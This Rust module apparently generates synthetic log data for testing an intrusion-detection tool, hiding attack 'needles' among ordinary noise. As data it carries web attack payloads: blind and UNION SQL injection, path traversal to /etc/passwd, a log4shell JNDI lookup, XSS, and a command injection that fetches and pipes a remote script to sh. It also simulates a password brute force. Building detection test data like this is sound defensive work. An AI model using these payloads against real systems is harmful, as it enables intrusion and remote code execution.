//! Needles that look like the hay: same address, same rule, same page, or so rare that nothing counts them.

use super::{BAD_USER, LOGGED_IN, Maker};

/// Twenty hours of ordinary noise. In it somebody guesses a password every half an hour, and somebody else tries an injection every 50 minutes.
pub(super) fn slow_drip(maker: &mut Maker, count: usize) {
    const HOUR: u64 = 3_600_000;
    let span = 20 * HOUR;
    let noise = count as u64 - 60;
    for number in 0..noise {
        let at = number * span / noise + maker.chance.below(5000);
        let who = maker.chance.below(30);
        let host = format!("pc{:02}", who + 1);
        match maker.chance.below(3) {
            0 => {
                let page =
                    maker.chance.one_of(&["/favicon.png", "/old/logo.gif", "/robots.txt"], "/");
                maker.web(at, &format!("192.0.2.{}", who + 1), page, 404, None);
            }
            1 => maker.login(
                at,
                &format!("10.0.7.{}", who + 1),
                &format!("user{who}"),
                LOGGED_IN,
                (&format!("1{who:02}"), &host),
                None,
            ),
            _ => {
                let more = serde_json::json!({
                    "full_log": format!("Nov 24 14:26:00 {host} cron[99]: job {} took {} s", who, maker.chance.below(500)),
                    "location": "/var/log/syslog",
                });
                let rule = ("2833", 3, "A job took longer than usual.", &["syslog", "cron"][..]);
                maker.alert(at, rule, (&format!("1{who:02}"), &host), more, None);
            }
        }
    }
    let needle = maker.needle("a guess every half an hour", "198.51.100.23", "brute_force");
    for attempt in 0..36 {
        let at = HOUR / 2 + attempt * (HOUR / 2) + maker.chance.below(120_000);
        let user = maker.chance.one_of(&["root", "admin", "postgres", "ubuntu"], "root");
        maker.login(at, "198.51.100.23", user, BAD_USER, ("003", "bastion"), Some(needle));
    }
    let needle = maker.needle("an injection every 50 minutes", "198.51.100.99", "sql_injection");
    for attempt in 0..22_u64 {
        let at = HOUR / 3 + attempt * 50 * 60_000 + maker.chance.below(240_000);
        let url = format!(
            "/item/?id={}%27%20AND%20ascii(substr(database(),{},1))%3E{}--%20-",
            attempt + 1,
            attempt + 1,
            64 + attempt
        );
        maker.web(
            at,
            "198.51.100.99",
            &url,
            if attempt % 5 == 4 { 500 } else { 404 },
            Some(needle),
        );
    }
}

/// A scan from one address, and from the same address by the same rule three attacks among the pages that are not there.
pub(super) fn same_rule_needle(maker: &mut Maker, count: usize) {
    let source = "203.0.113.50";
    let span = count as u64 * 4;
    for number in 0..count as u64 - 3 {
        let path = maker.guessed_path();
        maker.web(number * 4, source, &path, 404, None);
    }
    for (class, url) in [
        ("sql_injection", "/old/item.php?id=1%20AND%201=1%20UNION%20ALL%20SELECT%20NULL,version()"),
        ("path_traversal", "/static/..%252f..%252f..%252fetc/passwd"),
        ("log4shell", "/?x=$%7Bjndi:ldap://198.51.100.7/a%7D"),
    ] {
        let needle = maker.needle(&format!("{class} in the scan"), source, class);
        let at = maker.amid(span);
        maker.web(at, source, url, 404, Some(needle));
    }
}

/// A shop's search, asked thousands of times by one client, and four requests that differ in one parameter only.
pub(super) fn one_parameter(maker: &mut Maker, count: usize) {
    let source = "203.0.113.60";
    let span = count as u64 * 4;
    let url = |id: &str, sort: &str, file: &str| {
        format!("/shop/item?id={id}&sort={sort}&file={file}&page=3")
    };
    for number in 0..count as u64 - 4 {
        let id = maker.chance.below(90_000).to_string();
        let sort = maker.chance.one_of(&["price", "name", "select", "union", "order"], "price");
        let file = format!("leaflet-{}.pdf", maker.chance.below(900));
        maker.web(number * 4, source, &url(&id, sort, &file), 200, None);
    }
    for (class, id, sort, file) in [
        ("sql_injection", "17%20OR%20SLEEP(3)", "price", "leaflet-1.pdf"),
        ("xss", "17", "%3Cimg%20src=x%20onerror=alert(1)%3E", "leaflet-1.pdf"),
        ("path_traversal", "17", "price", "../../../../etc/passwd"),
        (
            "command_injection",
            "17",
            "price",
            "leaflet.pdf%3Bwget%20http://198.51.100.9/x%20-O-%7Csh",
        ),
    ] {
        let needle = maker.needle(&format!("{class} in one parameter"), source, class);
        let at = maker.amid(span);
        maker.web(at, source, &url(id, sort, file), 200, Some(needle));
    }
}
